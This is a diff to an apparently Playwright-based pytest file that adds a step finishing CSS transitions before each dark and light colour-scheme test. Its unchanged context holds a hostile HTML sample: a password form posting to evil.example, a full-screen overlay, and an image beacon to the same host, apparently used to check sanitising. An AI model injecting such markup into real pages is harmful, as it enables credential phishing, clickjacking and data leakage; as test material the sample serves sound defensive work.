@@ -18,6 +18,9 @@ HOSTILE = (
     '<form action="http://evil.example/"><input name="password"></form>'
     '<div style="position:fixed;inset:0">cover</div>![x](http://evil.example/y.png)'
 )
+# Buttons fade from one colour into the other.
+FADED = """new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done))).then(() =>
+  document.getAnimations().filter(one => one instanceof CSSTransition).forEach(one => one.finish()))"""
 
 
 @pytest.fixture
@@ -29,6 +32,7 @@ def schemes(page):
     """The page in light and in dark colours, one after the other."""
     for scheme in ("dark", "light"):
         page.emulate_media(color_scheme=scheme)
+        page.evaluate(FADED)
         yield scheme
 
 
